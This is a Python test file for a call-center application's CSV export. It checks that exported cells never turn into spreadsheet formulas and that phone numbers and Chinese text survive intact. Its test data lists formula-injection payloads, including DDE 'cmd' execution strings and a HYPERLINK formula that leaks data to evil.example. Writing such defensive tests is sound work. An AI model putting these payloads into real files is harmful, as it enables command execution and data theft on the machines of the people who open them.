"""What a spreadsheet program makes of our files: numbers of people stay, nothing runs, nothing is lost."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from callcenter.web.csv_out import BOM, Cell, lines, seconds
from callcenter.web.csv_texts import TEXTS

FORMULA = "=+-@＝＋－＠"


def read(data: bytes) -> list[list[str]]:
    return [*csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True)]


def typed(data: bytes) -> list[list[str | float]]:
    """As a reader that takes what is quoted for text and what is not for a number."""
    found = csv.reader(
        io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True, quoting=csv.QUOTE_NONNUMERIC
    )
    return [*found]  # type: ignore[misc]


def as_spreadsheet_cells(value: str, separator: str) -> list[str]:
    """The cells that a program sees which splits at its own separator: what is quoted for us isn't for it."""
    data = lines([["first", value, "last"]]).decode()
    return [cell for row in csv.reader(io.StringIO(data, newline=""), delimiter=separator) for cell in row]


def runs(cell: str) -> bool:
    """Whether a program takes this for a formula: a number with a sign in front is one, and harmless."""
    shown = cell.lstrip(" \t\r\n\x0b\x0c\u00a0\u200b\ufeff")
    return shown[:1] in tuple(FORMULA) and not shown.lstrip(FORMULA).isdigit()


ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+14155550101+cmd|' /C calc'!A0",
    "+1(415)5550101",
    "+1415-555-0101",
    "+14155550101\n=1+1",
    "-1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x00\x00@SUM(1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
    '";=1+1;"',
    "a|=1+1|b",
    "'=1+1",
    'x";=1+1;"',
    "a;=1+1",
    "a;=1+1;b",
    "a\t=1+1\tb",
    "a\n=1+1",
    "a\r=cmd|' /C calc'!A0\rb",
    ";@SUM(1)",
    "%0A=1+1",
    "=",
    "+",
    "@",
    "-",
    "\t",
    "\r",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_text_becomes_a_formula(attack: str, separator: str):
    cells = as_spreadsheet_cells(attack, separator)
    assert [cell for cell in cells if runs(cell)] == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_still_readable_as_what_it_was(attack: str):
    ((cell,),) = read(lines([[attack]]))
    assert cell.replace("'", "") == attack.replace("\0", "").replace("'", "")


@pytest.mark.parametrize(
    "number", ["+14155550101", "+8613812345678", "+442071838750", "+390612345678", "+123456789012345"]
)
def test_a_telephone_number_stays_itself_and_is_text(number: str):
    data = BOM + lines([["Number", "Calls"], [number, 3]])
    assert read(data)[1][0] == number
    assert typed(data) == [["Number", "Calls"], [number, 3.0]]
    assert f'"{number}",3\r\n'.encode() in data
    assert typed(BOM + lines(typed(data))) == typed(data), "exported again it is the same"


@pytest.mark.parametrize(
    "value", ["+1", "+1 415 555 0101", "+", "+1415555010١", "+12345678901234567", "00014155550101"]
)
def test_what_only_looks_like_a_number_is_guarded_like_any_text(value: str):
    ((cell,),) = read(lines([[value]]))
    assert cell == (f"'{value}" if value.startswith("+") else value)


def test_chinese_quotes_and_line_ends_come_back_as_they_were():
    row: list[Cell] = ["李伟，“张三”", 'He said "no", twice', "two\r\nlines", "", None, 0, 42, 1.5]
    data = BOM + lines([row])
    assert data.startswith(b"\xef\xbb\xbf")
    assert read(data) == [["李伟，“张三”", 'He said "no", twice', "two\r\nlines", "", "", "0", "42", "1.5"]]


@given(st.text(max_size=40))
def test_whatever_is_typed_is_one_cell_that_does_not_run(value: str):
    for separator in (",", ";", "\t", "|"):
        assert not any(runs(cell) for cell in as_spreadsheet_cells(value, separator))
    ((cell,),) = read(lines([[value]]))
    assert cell.replace("'", "") == value.replace("\0", "").replace("'", "")


def test_durations_are_seconds_to_the_last_digit():
    assert [seconds(ms) for ms in (0, 42_000, 1_500, 1, None)] == [0, 42, 1.5, 0.001, None]


def test_both_languages_name_every_column_and_code():
    assert set(TEXTS["en"]) == set(TEXTS["zh"])
    assert not {key for key, text in TEXTS["zh"].items() if text.isascii()}


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_a_text_that_begins_so_is_marked_as_text(sign: str):
    ((cell, number),) = read(lines([[f"{sign}A1", 5]]))
    assert (cell, number) == (f"'{sign}A1", "5")
